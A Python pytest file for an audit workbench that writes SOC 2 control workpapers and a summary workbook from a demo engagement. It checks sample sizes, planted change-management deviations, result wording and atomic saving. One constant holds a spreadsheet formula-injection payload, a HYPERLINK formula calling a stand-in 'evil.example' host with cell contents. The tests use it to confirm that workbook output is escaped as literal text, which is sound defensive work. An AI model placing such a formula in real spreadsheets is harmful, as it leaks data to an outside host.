"""The control workpaper and the engagement summary, written from the real stages on the demo engagement.

Expected values come from outside the code under test: the planted exceptions listed in
``sample_data/README.md`` (acme-type2 / changes; CM-01 tests the standard and normal changes, so the three
emergency changes among them are CM-03's), the raw export read with the csv module (counts, change types, key
set), the file's own bytes (SHA-256), the AICPA Audit Sampling guide's Table A-1 (10 % risk of overreliance,
10 % tolerable rate, 0 expected deviations: 22 items), and results and judgements recorded here in the results
store.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from conftest import (agree_to_source, copy_engagement, raw_changes, raw_in_scope,
                      record_walkthrough_of, run_stages)
from conftest import write_stages as write
from workbench.judgements import evaluate_exception
from workbench.results import ResultsStore
from workbench.workpaper import read_summary, write_summary
from workbench.workpaper.layout import save_atomically
from workbench.workpaper.layout import REGENERATED_NOTE
from workbench.workpaper.sheets import SHEETS, TICKMARKS

# sample_data/README.md, "acme-type2 / changes": planted exception ids per CM-01 attribute.
README_PLANTED = {
    "ticket_before_deployment": {"CHG-2151", "CHG-2359"},
    "approved_before_deployment": {"CHG-1458", "CHG-1496", "CHG-1597", "CHG-1705", "CHG-2060", "CHG-2151",
                                   "CHG-2207", "CHG-2319", "CHG-2359", "CHG-2536", "CHG-2538"},
    "approver_not_author": {"CHG-1153", "CHG-2220", "CHG-2319", "CHG-2411"},
}
#: The emergency changes among them (Custom field (Change type) = Emergency): CM-03's, not CM-01's.
EMERGENCY = {"CHG-1705", "CHG-2060", "CHG-2538"}
#: CM-01 tests the standard and normal changes: 11 distinct changes, 3 of them failing two attributes.
PLANTED = {attribute: ids - EMERGENCY for attribute, ids in README_PLANTED.items()}
ALL_PLANTED = set().union(*PLANTED.values())
#: Section 4 deviation wording per attribute (workbench/procedures/change_management.py).
WORDING = {
    "ticket_before_deployment": "the change was not documented in a ticket before deployment",
    "approved_before_deployment": "approval was not documented before deployment",
    "approver_not_author": "the change was not approved by someone other than its author",
}
#: AICPA Audit Sampling guide, Table A-1 (10 % risk of overreliance), TDR 10 %, 0 expected deviations.
AICPA_SIZE = 22
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CHANGES_FILE = "populations/jira_changes_FY26.csv"
PERIOD = ("2025-07-01", "2026-06-30")
RECORDS_TESTED = "standard and normal changes deployed during the period"
#: The Section 4 result for CM-01: every planted deviation, the distinct count first, natures in attribute order.
CM01_RESULT = (
    f"For {len(ALL_PLANTED)} of 1,467 {RECORDS_TESTED}, a deviation was noted: "
    f"{WORDING['ticket_before_deployment']} ({len(PLANTED['ticket_before_deployment'])}), "
    f"{WORDING['approved_before_deployment']} ({len(PLANTED['approved_before_deployment'])}) and "
    f"{WORDING['approver_not_author']} ({len(PLANTED['approver_not_author'])}); 3 of them had more than one of "
    f"these deviations.")
PENDING_EVALUATION = ("evaluate {count} (type, isolated or systematic and why, root cause, compensating "
                      "control, effect on the criteria, management's response)")


# ---------------------------------------------------------------------------------------------------
# Stages and sheet readers
# ---------------------------------------------------------------------------------------------------

def value_of(ws, label: str, column: int = 2, *, start: int = 9):
    """The value right of the first cell in column A (from row ``start``) that reads ``label``."""
    for row in range(start, ws.max_row + 1):
        if ws.cell(row=row, column=1).value == label:
            return ws.cell(row=row, column=column).value
    raise AssertionError(f"{ws.title}: no row labelled {label!r}")


def cell_of(ws, label: str, column: int = 2, *, start: int = 9):
    for row in range(start, ws.max_row + 1):
        if ws.cell(row=row, column=1).value == label:
            return ws.cell(row=row, column=column)
    raise AssertionError(f"{ws.title}: no row labelled {label!r}")


def table_after(ws, first_heading: str, *, start: int = 9) -> list[dict]:
    """The table whose header row starts with ``first_heading``, as dicts, up to the first blank row."""
    for row in range(start, ws.max_row + 1):
        if ws.cell(row=row, column=1).value == first_heading:
            headings = []
            column = 1
            while ws.cell(row=row, column=column).value is not None:
                headings.append(ws.cell(row=row, column=column).value)
                column += 1
            records = []
            r = row + 1
            while r <= ws.max_row and ws.cell(row=r, column=1).value is not None:
                records.append({h: ws.cell(row=r, column=j).value for j, h in enumerate(headings, start=1)})
                r += 1
            return records
    raise AssertionError(f"{ws.title}: no table starting with {first_heading!r}")


# ---------------------------------------------------------------------------------------------------
# Fixtures: a private copy of the demo engagement, CM-01 with planted exceptions in the sample, CM-02
# ---------------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def engagement_dir(tmp_path_factory, demo_type2) -> Path:
    folder = copy_engagement(demo_type2, tmp_path_factory.mktemp("wp") / "acme-type2")
    toml = folder / "engagement.toml"
    text = toml.read_text(encoding="utf-8")
    marker = 'provided_by = "Priya Shah, Release Manager"'
    assert marker in text, "the demo's changes population is no longer provided by Priya Shah; update the test"
    # client-side text that looks like a formula must reach the workbook as literal text
    toml.write_text(text.replace(marker, "provided_by = '" + PAYLOAD + "'", 1), encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def cm01(engagement_dir) -> dict:
    """CM-01 with the first seed (1, 2, ...) whose sample holds at least one planted exception, its sample agreed
    to source, its walkthrough recorded and the first planted exception in the sample evaluated (isolated)."""
    for seed in range(1, 400):
        stages = run_stages(engagement_dir, "CM-01", seed)
        if ALL_PLANTED & set(stages["selection"].keys):
            break
    else:  # pragma: no cover - 22 of 1,467 with 11 planted: about one seed in seven hits
        raise AssertionError("no seed below 400 samples a planted exception")
    keys = stages["selection"].keys
    engagement = stages["engagement"]
    agree_to_source(engagement, "CM-01", keys)
    record_walkthrough_of(engagement, "CM-01", instance=keys[0])
    evaluated = next(k for k in keys if k in ALL_PLANTED)
    evaluate_exception(engagement, "CM-01", evaluated, by="DR", type="operating", extent="isolated",
                       why="approved the next morning; no other late approval by this approver",
                       root_cause="the approver was travelling", effect_on_criteria="none: reviewed after deployment",
                       management_response="Approvals are now delegated during travel.")
    stages = run_stages(engagement_dir, "CM-01")   # the seed chosen above stays recorded for the sample
    assert stages["selection"].keys == keys
    stages["seed"] = seed
    stages["evaluated"] = evaluated
    stages["path"] = write(stages, engagement_dir / "output")
    stages["book"] = load_workbook(stages["path"])
    return stages


@pytest.fixture(scope="module")
def cm02(engagement_dir) -> dict:
    """CM-02 written twice: before any manual result (in progress), then with results and the walkthrough
    recorded (its two exceptions pending evaluation)."""
    before = run_stages(engagement_dir, "CM-02")
    out = engagement_dir / "output"
    first = write(before, out)
    in_progress = load_workbook(first)
    keys = before["selection"].keys
    failing = {keys[3]: PAYLOAD, keys[10]: "-no CI run linked"}
    with ResultsStore.open(before["engagement"]) as store:
        for number, key in enumerate(keys, start=1):
            if key in failing:
                store.record("CM-02", key, "testing_evidenced", "fail", tested_by="DR",
                             evidence_ref=f"+EV-{number:03d}", comment=failing[key])
            else:
                store.record("CM-02", key, "testing_evidenced", "pass", tested_by="DR",
                             evidence_ref=f"EV-{number:03d}", comment=None)
    record_walkthrough_of(before["engagement"], "CM-02", instance=keys[0])
    after = run_stages(engagement_dir, "CM-02")
    assert after["selection"].keys == keys
    second = write(after, out)
    assert second == first
    return dict(before=before, in_progress=in_progress, after=after, book=load_workbook(second),
                failing=failing, path=second)


# ---------------------------------------------------------------------------------------------------
# The workbook
# ---------------------------------------------------------------------------------------------------

def test_workbook_is_named_by_control_and_has_every_sheet(cm01, engagement_dir):
    assert cm01["path"] == engagement_dir / "output" / "CM-01.xlsx"
    assert cm01["book"].sheetnames == list(SHEETS)
    assert SHEETS == ("Lead", "Population", "Sampling", "Testing", "Exceptions", "Evaluation", "Legend",
                      "Population listing", "Sign-off")
    leftovers = [p.name for p in (engagement_dir / "output").iterdir() if p.name.endswith(".tmp")]
    assert leftovers == []


def test_header_block_on_every_sheet(cm01):
    for number, ws in enumerate(cm01["book"], start=1):
        assert ws["A1"].value.startswith("CM-01 — ")
        assert [ws.cell(row=r, column=1).value for r in range(2, 10)] == [
            "Client", "Engagement", "Period", "Workpaper reference", "Prepared by", "Reviewed by", "Generated (UTC)",
            REGENERATED_NOTE]
        assert ws["B2"].value == "Acme Cloud, Inc."
        assert ws["B3"].value == "ACME-SOC2-T2-FY26 — SOC 2 Type 2"
        assert ws["B4"].value == "2025-07-01 to 2026-06-30"
        assert ws["B5"].value == f"ACME-SOC2-T2-FY26/CM-01.{number}"
        assert ws["B6"].value == ws["B7"].value == "not signed"   # from the sign-offs recorded: none yet
        assert ws["C6"].value == ws["C7"].value == "Date"
        assert ws["D6"].value is None and ws["D7"].value is None
        assert ws["C8"].value == "Workbench version" and ws["D8"].value
        assert ws["A2"].font.b and ws["A1"].font.b


def data_rows(path: Path) -> int:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return sum(1 for row in csv.reader(handle) if any(row)) - 1


def test_lead_sheet_sample_size_deviations_and_result_text(cm01, engagement_dir):
    ws = cm01["book"]["Lead"]
    sampled = set(cm01["selection"].keys)
    deviating = ALL_PLANTED & sampled
    in_scope = len(raw_in_scope(engagement_dir, *PERIOD))
    assert in_scope == 1467
    assert value_of(ws, "Control ID") == "CM-01"
    assert value_of(ws, "Criteria") == "CC8.1"
    assert value_of(ws, "Control owner") == "Priya Shah"
    assert value_of(ws, "Frequency") == "as_needed"
    assert value_of(ws, "Nature") == "manual"
    assert value_of(ws, "Records tested") == f"{RECORDS_TESTED} (record filter change_type in standard, normal)"
    assert value_of(ws, "Records received") == data_rows(engagement_dir / CHANGES_FILE)
    assert value_of(ws, "In scope") == in_scope
    assert value_of(ws, "Excluded") == data_rows(engagement_dir / CHANGES_FILE) - in_scope
    assert value_of(ws, "Sample") == "changes[change_type in standard, normal] (shared with CM-02)"
    assert value_of(ws, "Sample size") == AICPA_SIZE
    assert value_of(ws, "Items tested") == AICPA_SIZE
    assert value_of(ws, "Deviations in the sample") == len(deviating)
    assert value_of(ws, "Full-population exceptions") == len(ALL_PLANTED) == 11
    assert value_of(ws, "Items with a deviation (distinct)") == len(ALL_PLANTED)
    assert value_of(ws, "Exceptions evaluated") == f"1 of {len(ALL_PLANTED)}"
    # the result states the distinct count of what was tested, never opening with "No exceptions noted"
    result = value_of(ws, "Proposed Section 4 result")
    assert result == CM01_RESULT == (
        "For 11 of 1,467 standard and normal changes deployed during the period, a deviation was noted: the change "
        "was not documented in a ticket before deployment (2), approval was not documented before deployment (8) "
        "and the change was not approved by someone other than its author (4); 3 of them had more than one of "
        "these deviations.")
    assert result == cm01["evaluation"].result_text
    assert value_of(ws, "Proposed by the tool") == "Exceptions noted, evaluation pending"
    assert value_of(ws, "Conclusion", start=value_row(ws, "Conclusion") + 1) == (
        "Exceptions noted, evaluation pending (proposed; not recorded yet)")
    assert value_of(ws, "Pending 1") == PENDING_EVALUATION.format(count=f"{len(ALL_PLANTED) - 1} exceptions")
    assert value_of(ws, "Test objective").startswith("To determine that the change was documented in a ticket")
    assert value_of(ws, "Test performed") == (
        "Compared the ticket creation time of each change with its deployment time, the approval time of each "
        "change with its deployment time and the approver of each change with its author for all 1,467 standard "
        "and normal changes deployed during the period (full-population analysis). Inspected the change ticket "
        f"for a sample of {AICPA_SIZE} of them to determine that the exported change data agreed with the ticket "
        "history and deployment record.")
    # the sign-offs recorded (none yet), not a pre-printed list of the staff
    assert value_of(ws, "Sign-off", start=value_row(ws, "Sign-off") + 1) == "prepared —; reviewed —"
    assert value_of(ws, "Open review notes") == 0


def test_population_sheet_hash_source_and_receipt(cm01, engagement_dir):
    ws = cm01["book"]["Population"]
    path = engagement_dir / CHANGES_FILE
    assert value_of(ws, "SHA-256") == hashlib.sha256(path.read_bytes()).hexdigest()
    assert value_of(ws, "Source file") == CHANGES_FILE
    assert value_of(ws, "Records received") == data_rows(path)
    provider = cell_of(ws, "Provided by")
    assert provider.value == PAYLOAD and provider.data_type == "s"
    received = cell_of(ws, "Received")
    assert received.is_date and received.value == dt.datetime(2026, 7, 10)
    assert value_of(ws, "Request") == "PBC-07"
    # the control's record filter: standard and normal changes; the emergency ones are left to CM-03
    emergency = raw_in_scope(engagement_dir, *PERIOD, types=("Emergency",))
    assert EMERGENCY <= emergency and len(emergency) == 33
    assert value_of(ws, "Record filter") == "change_type in standard, normal (the records this control tests)"
    assert value_of(ws, "In scope") == len(raw_in_scope(engagement_dir, *PERIOD)) == 1467
    assert value_of(ws, "Excluded: change_type not standard or normal") == len(emergency)
    assert value_of(ws, "Months with no records") == "none"
    assert value_of(ws, "Usable for sampling") == "yes"
    findings = table_after(ws, "Rule", start=value_row(ws, "Findings (one row each):"))
    expected = cm01["report"].findings
    assert len(findings) == len(expected)
    assert [f["Rule"] for f in findings] == list(expected["rule"])
    assert [f["Severity"] for f in findings] == list(expected["severity"])
    assert [f["Message"] for f in findings] == list(expected["message"])
    excluded = table_after(ws, "Change id")
    assert len(excluded) == len(cm01["scope"].parts[0].excluded) == 30 + 30 + len(emergency)
    assert {r["Reason"] for r in excluded} == {"deployed_at before 2025-07-01", "deployed_at after 2026-06-30",
                                               "change_type not standard or normal: not tested by this control"}
    assert {r["Change id"] for r in excluded
            if r["Reason"] == "change_type not standard or normal: not tested by this control"} == emergency
    # the sample as evidence of the export: every sampled change agreed to its ticket
    assert value_of(ws, "Sampled items agreed") == f"{AICPA_SIZE} of {AICPA_SIZE} tested ({AICPA_SIZE} selected)"
    assert value_of(ws, "Population data relied on") == "yes"


def value_row(ws, label: str) -> int:
    for row in range(1, ws.max_row + 1):
        if ws.cell(row=row, column=1).value == label:
            return row
    raise AssertionError(f"{ws.title}: no row {label!r}")


def test_sampling_sheet_lists_exactly_the_selection(cm01, engagement_dir):
    ws = cm01["book"]["Sampling"]
    selection = cm01["selection"]
    items = table_after(ws, "Sample #")
    assert [r["Change id"] for r in items] == list(selection.keys)
    assert [r["Sample #"] for r in items] == list(range(1, AICPA_SIZE + 1))
    seed = value_of(ws, "Seed")
    assert seed.startswith(f"{cm01['seed']} (chosen by DR on ") and seed.endswith(": chosen by the test)")
    assert value_of(ws, "Sample", start=value_row(ws, "Sample size and why")) == \
        "changes[change_type in standard, normal]"
    assert value_of(ws, "Shared with") == "CM-02"
    assert value_of(ws, "Selection method") == "stratified"
    assert value_of(ws, "Sampling model") == "binomial"
    # the key-set hash re-derived here from the raw export's standard and normal changes in the period
    keys = sorted(raw_in_scope(engagement_dir, *PERIOD))
    digest = hashlib.sha256("".join(k + "\n" for k in keys).encode("utf-8")).hexdigest()
    assert value_of(ws, "Population key-set SHA-256") == digest
    assert value_of(ws, "Algorithm").startswith("Stratified selection")
    dates = [r["Deployed at"] for r in items]
    assert all(d[:4] in ("2025", "2026") and d[-6:] in ("-04:00", "-05:00") for d in dates)


def test_testing_matrix_tickmarks_match_the_planted_exceptions(cm01):
    ws = cm01["book"]["Testing"]
    rows = table_after(ws, "Sample #")
    assert [r["Change id"] for r in rows] == list(cm01["selection"].keys)
    labels = {"ticket_before_deployment": "Ticket before deployment (automated)",
              "approved_before_deployment": "Approved before deployment (automated)",
              "approver_not_author": "Approver not author (automated)"}
    for r in rows:
        for attribute, heading in labels.items():
            # an automated pass is recomputed from the population data (R), not agreed to evidence
            expected = "X" if r["Change id"] in PLANTED[attribute] else "R"
            assert r[heading] == expected, (r["Change id"], attribute)
        assert r["Agreed to source (manual, accuracy)"] == "✓"   # agreed to the ticket history by DR
        assert r["Deviation"] == ("yes" if r["Change id"] in ALL_PLANTED else "no")
        assert r["Tested by"] == "DR"
    header_row = value_row(ws, "Sample #")
    assert ws.freeze_panes == f"C{header_row + 1}"
    legend = {r["Tickmark"]: r["Meaning"] for r in table_after(cm01["book"]["Legend"], "Tickmark")}
    assert legend == dict([TICKMARKS["recomputed"], TICKMARKS["agreed"], TICKMARKS["fail"]])
    assert set(legend) == {"R", "✓", "X"}


def test_exceptions_sheet_lists_every_planted_id_with_its_evaluation(cm01):
    ws = cm01["book"]["Exceptions"]
    sampled = cm01["selection"].keys
    assert value_of(ws, "Items with a deviation") == f"{len(ALL_PLANTED)} of 1,467 {RECORDS_TESTED}"
    assert value_of(ws, "Evaluated") == f"1; pending {len(ALL_PLANTED) - 1}"
    rows = table_after(ws, "Item")
    got = {(r["Item"], r["Attribute"].split("(")[-1].rstrip(")")) for r in rows}
    assert got == {(item, a) for a, ids in PLANTED.items() for item in ids}
    assert len(rows) == sum(len(ids) for ids in PLANTED.values()) == 14   # one row per item and attribute
    assert {r["Found by"] for r in rows} == {"full-population analysis"}
    for r in rows:
        assert r["Sample #"] == (sampled.index(r["Item"]) + 1 if r["Item"] in sampled else None)
        if r["Item"] == cm01["evaluated"]:
            assert (r["Type"], r["Isolated or systematic"], r["Root cause"]) == (
                "operating", "isolated: approved the next morning; no other late approval by this approver",
                "the approver was travelling")
            assert r["Compensating control"] == "none recorded"
            assert r["Management's response (Section 5, unaudited)"] == "Approvals are now delegated during travel."
            assert r["Evaluated by"].startswith("DR on ")
        else:
            assert (r["Type"], r["Evaluated by"]) == ("pending", None)


def test_evaluation_sheet_shows_the_walkthrough_and_no_statistics_for_the_census(cm01):
    ws = cm01["book"]["Evaluation"]
    keys = cm01["selection"].keys
    assert value_of(ws, "Instance walked through") == keys[0]
    assert value_of(ws, "Inquiry of") == "Priya Shah, Release Manager on 2026-07-14"
    assert value_of(ws, "Design evaluation") == "suitably designed"
    assert value_of(ws, "Recorded by").startswith("DR on ")
    # every attribute of CM-01 was computed for all 1,467 changes: known deviations, not a sample to evaluate
    assert cm01["evaluation"].evaluation is None
    assert value_of(ws, "Statistical evaluation performed") == "no"
    assert value_of(ws, "Distinct items with a deviation") == len(ALL_PLANTED)
    assert value_of(ws, "Proposed conclusion") == "Exceptions noted, evaluation pending"


def test_evaluation_sheet_shows_the_statistical_evaluation_of_what_only_the_sample_tested(cm02):
    ws = cm02["book"]["Evaluation"]
    evaluation = cm02["after"]["evaluation"].evaluation
    assert evaluation is not None
    assert value_of(ws, "Statistical evaluation performed") == "yes"
    assert value_of(ws, "Sample size") == AICPA_SIZE
    assert value_of(ws, "Deviations found") == cm02["after"]["evaluation"].deviations == 2
    assert value_of(ws, "Upper deviation limit (exact)") == dict(evaluation.to_table())["Upper deviation limit (exact)"]
    assert value_of(ws, "Upper deviation limit (rounded up to 0.1 %, as the AICPA tables)") == \
        dict(evaluation.to_table())["Upper deviation limit (rounded up to 0.1 %, as the AICPA tables)"]
    assert value_of(ws, "Tolerable deviation rate") == "10 %"
    assert value_of(ws, "Conclusion") == evaluation.conclusion


def test_no_formula_anywhere_in_the_workbook(cm01, cm02):
    for path in (cm01["path"], cm02["path"]):
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/sheet"):
                    xml = archive.read(name).decode("utf-8")
                    assert "<f>" not in xml and "<f " not in xml, name


# ---------------------------------------------------------------------------------------------------
# CM-02: manual attribute, before and after results are recorded
# ---------------------------------------------------------------------------------------------------

def test_manual_attribute_in_progress_reads_not_tested(cm02):
    book = cm02["in_progress"]
    lead = book["Lead"]
    assert value_of(lead, "Proposed Section 4 result") == f"Testing in progress (0 of {AICPA_SIZE} items tested)."
    assert value_of(lead, "Proposed by the tool") == "Testing in progress"
    rows = table_after(book["Testing"], "Sample #")
    assert {r["Testing evidenced (manual)"] for r in rows} == {"NT"}
    assert {r["Deviation"] for r in rows} == {"pending"}
    legend = table_after(book["Legend"], "Tickmark")
    assert [(r["Tickmark"], r["Meaning"]) for r in legend] == [TICKMARKS["not tested"]]
    assert table_after(book["Exceptions"], "Item") == [
        {"Item": "None: no item deviated.", "Found by": None, "Sample #": None, "Date": None, "Attribute": None,
         "Description": None, "Reason": None, "Evidence ref": None, "Type": None, "Isolated or systematic": None,
         "Root cause": None, "Compensating control": None, "Effect on the criteria": None,
         "Management's response (Section 5, unaudited)": None, "Evaluated by": None}]


def test_recorded_results_reach_the_workpaper_as_literal_text(cm02):
    book = cm02["book"]
    keys = cm02["after"]["selection"].keys
    lead = book["Lead"]
    assert value_of(lead, "Deviations in the sample") == 2
    assert value_of(lead, "Proposed Section 4 result") == (
        f"For 2 of {AICPA_SIZE} sampled changes, testing before deployment was not evidenced.")
    assert value_of(lead, "Proposed by the tool") == "Exceptions noted, evaluation pending"
    testing = book["Testing"]
    rows = table_after(testing, "Sample #")
    for r in rows:
        failed = r["Change id"] in cm02["failing"]
        assert r["Testing evidenced (manual)"] == ("X" if failed else "✓")
        assert r["Tested by"] == "DR"
    payload_row = next(r for r in rows if r["Change id"] == keys[3])
    assert payload_row["Comment"] == f"testing_evidenced: {PAYLOAD}"
    assert payload_row["Evidence ref"] == "+EV-004"
    exceptions = table_after(book["Exceptions"], "Item")
    assert [(r["Item"], r["Found by"], r["Sample #"], r["Reason"], r["Evidence ref"], r["Type"])
            for r in exceptions] == [(keys[3], "sample", 4, PAYLOAD, "+EV-004", "pending"),
                                     (keys[10], "sample", 11, "-no CI run linked", "+EV-011", "pending")]
    for ws in (testing, book["Exceptions"]):
        for line in ws.iter_rows():
            for cell in line:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
    legend = [r["Tickmark"] for r in table_after(book["Legend"], "Tickmark")]
    assert legend == ["✓", "X"]
    evaluation = book["Evaluation"]
    assert value_of(evaluation, "Deviations found") == 2


# ---------------------------------------------------------------------------------------------------
# Type 1 and a control that did not occur
# ---------------------------------------------------------------------------------------------------

def test_type1_workpaper_shows_the_as_of_date_and_one_instance(tmp_path, demo_type1):
    folder = copy_engagement(demo_type1, tmp_path / "acme-type1")
    stages = run_stages(folder, "CM-01")
    book = load_workbook(write(stages, tmp_path / "out"))
    for ws in book:
        assert (ws["A4"].value, ws["B4"].value) == ("As of", "2026-06-30")
        assert ws["B3"].value == "ACME-SOC2-T1-FY26 — SOC 2 Type 1"
    lead = book["Lead"]
    assert value_of(lead, "Sample size") == 1  # Type 1: one instance (walkthrough)
    # a Type 1 report gives no results of tests
    assert stages["evaluation"].result_text == ""
    assert value_of(lead, "Section 4") == ("A Type 1 report gives no results of tests; the design and implementation "
                                           "conclusion is pending.")
    assert "Proposed Section 4 result" not in {c.value for c in lead["A"]}
    assert value_of(book["Evaluation"], "Statistical evaluation performed") == "no"
    assert [r["Change id"] for r in table_after(book["Sampling"], "Sample #")] == list(stages["selection"].keys)
    # the export starts after the 90-day look-back window begins: the population sheet says how much it covers
    first = min(c["deployed"] for c in raw_changes(folder)).date()
    covered = (dt.date(2026, 7, 1) - first).days
    assert value_of(book["Population"], "Export covers") == (
        f"the export holds records from {first} only: it covers {covered} of the 90 days of the window used to "
        f"choose the as-of instance")


def test_not_occurring_control_reads_a_recorded_zero(tmp_path, demo_type2):
    folder = copy_engagement(demo_type2, tmp_path / "acme-type2")
    toml = folder / "engagement.toml"
    text = toml.read_text(encoding="utf-8")
    text = text.replace("period_start = 2025-07-01", "period_start = 2020-01-01")
    toml.write_text(text.replace("period_end = 2026-06-30", "period_end = 2020-06-30"), encoding="utf-8")
    stages = run_stages(folder, "CM-01")
    book = load_workbook(write(stages, tmp_path / "out"))
    lead = book["Lead"]
    assert value_of(lead, "In scope") == 0
    assert value_of(lead, "Sample size") == 0
    assert value_of(lead, "Proposed by the tool") == "Not occurring"
    assert value_of(lead, "Proposed Section 4 result").startswith(
        "The circumstances that warrant the operation of the control did not occur during the period")
    assert table_after(book["Sampling"], "Sample #")[0]["Sample #"] == "No items selected."
    assert table_after(book["Testing"], "Sample #")[0]["Sample #"] == "No items selected."
    assert table_after(book["Legend"], "Tickmark")[0]["Tickmark"] == "No tickmarks used (no items tested)."


# ---------------------------------------------------------------------------------------------------
# Atomic writing
# ---------------------------------------------------------------------------------------------------

def test_failed_save_keeps_the_previous_workbook_and_no_temporary_file(tmp_path):
    target = tmp_path / "CM-09.xlsx"
    good = Workbook()
    good.active["A1"] = "previous"
    save_atomically(good, target)
    before = target.read_bytes()
    broken = Workbook()
    broken.remove(broken.active)  # a workbook without sheets cannot be saved
    with pytest.raises(IndexError):
        save_atomically(broken, target)
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["CM-09.xlsx"]


def test_target_that_is_a_folder_fails_without_leaving_a_temporary_file(cm01, tmp_path):
    (tmp_path / "CM-01.xlsx").mkdir()
    with pytest.raises(OSError):
        write(cm01, tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["CM-01.xlsx"]


# ---------------------------------------------------------------------------------------------------
# summary.xlsx
# ---------------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def summary(cm01, cm02, engagement_dir) -> dict:
    engagement = cm01["engagement"]
    rows = [
        cm02["after"]["evaluation"].to_record(),
        {"control_id": "CM-10", "criteria": ["CC8.1"], "description": "Ten", "status": "not_yet_tested",
         "result_text": "Not yet tested."},
        cm01["evaluation"].to_record(),
        {"control_id": "CM-03", "criteria": ["CC8.1"], "status": "failed",
         "result_text": "Notebook failed: =1+1 is not a valid seed"},
        {"control_id": "AC-01", "criteria": ["CC6.2", "CC6.3"], "status": "not_yet_tested",
         "result_text": "Not yet tested."},
    ]
    run_info = {"engagement": str(engagement_dir), "workers": 2, "started": dt.datetime(2026, 7, 20, 9, 0,
                tzinfo=dt.timezone.utc), "versions": {"pandas": "3.0.0", "openpyxl": "3.1.5"},
                "controls": ["CM-01", "CM-02"], "failed": []}
    path = write_summary(engagement_dir / "output" / "summary.xlsx", engagement, rows, run_info)
    return dict(path=path, rows=rows, book=load_workbook(path))


def test_summary_has_one_row_per_control_in_natural_order(summary, cm01, cm02):
    records = read_summary(summary["path"])
    assert [r["control_id"] for r in records] == ["AC-01", "CM-01", "CM-02", "CM-03", "CM-10"]
    by_id = {r["control_id"]: r for r in records}
    cm01_record = cm01["evaluation"].to_record()
    assert by_id["CM-01"]["sample_size"] == AICPA_SIZE
    assert by_id["CM-01"]["population_count"] == 1467
    assert by_id["CM-01"]["deviations"] == len(ALL_PLANTED & set(cm01["selection"].keys))
    # the deviation columns agree with the Exceptions sheet: every distinct item, and those not evaluated
    assert by_id["CM-01"]["exceptions_distinct"] == len(ALL_PLANTED) == 11
    assert by_id["CM-01"]["unevaluated"] == len(ALL_PLANTED) - 1
    assert by_id["CM-01"]["result_text"] == cm01_record["result_text"] == CM01_RESULT
    assert by_id["CM-01"]["status"] == "evaluation_pending"
    assert by_id["CM-01"]["pending"] == PENDING_EVALUATION.format(count=f"{len(ALL_PLANTED) - 1} exceptions")
    assert by_id["CM-01"]["criteria"] == "CC8.1"
    assert by_id["CM-01"]["test_performed"] == cm01_record["test_performed"]
    assert by_id["CM-02"]["result_text"] == (
        f"For 2 of {AICPA_SIZE} sampled changes, testing before deployment was not evidenced.")
    assert (by_id["CM-02"]["deviations"], by_id["CM-02"]["exceptions_distinct"], by_id["CM-02"]["unevaluated"]) == (
        2, 2, 2)
    assert by_id["CM-10"]["conclusion_text"] == "Not yet tested."
    assert by_id["AC-01"]["criteria"] == "CC6.2; CC6.3"
    assert by_id["AC-01"]["result_text"] == "Not yet tested."
    assert by_id["AC-01"]["sample_size"] is None
    # a record without a description takes it from the control matrix
    assert by_id["CM-03"]["description"].startswith("Emergency changes are approved")
    assert by_id["CM-03"]["status"] == "failed"


def test_summary_cells_are_safe_and_the_layout_is_fixed(summary):
    ws = summary["book"]["Summary"]
    assert ws["A11"].value == "Control ID" and ws["A11"].font.b
    assert ws.freeze_panes == "A12"
    assert ws["B5"].value == "ACME-SOC2-T2-FY26/summary"
    assert ws.cell(row=11, column=10).value == "Result"
    assert ws.cell(row=11, column=15).value == "Sign-off"
    failed = next(r for r in range(12, ws.max_row + 1) if ws.cell(row=r, column=1).value == "CM-03")
    cell = ws.cell(row=failed, column=10)
    assert cell.value == "Notebook failed: =1+1 is not a valid seed" and cell.data_type == "s"


def test_summary_run_sheet_flattens_run_info(summary):
    records = table_after(summary["book"]["Run"], "Item")
    got = {r["Item"]: r["Value"] for r in records}
    assert got["workers"] == 2
    assert got["started"] == "2026-07-20T09:00:00+00:00"
    assert got["versions.pandas"] == "3.0.0"
    assert got["versions.openpyxl"] == "3.1.5"
    assert got["controls"] == "CM-01; CM-02"
    assert got["failed"] == "(none)"


def test_summary_into_a_folder_writes_summary_xlsx(cm01, tmp_path):
    path = write_summary(tmp_path, cm01["engagement"], [], {})
    assert path == tmp_path / "summary.xlsx"
    ws = load_workbook(path)["Summary"]
    assert ws["A12"].value == "No controls in this run."
    assert read_summary(path) == []
    assert table_after(load_workbook(path)["Run"], "Item") == [{"Item": "No run information.", "Value": None}]
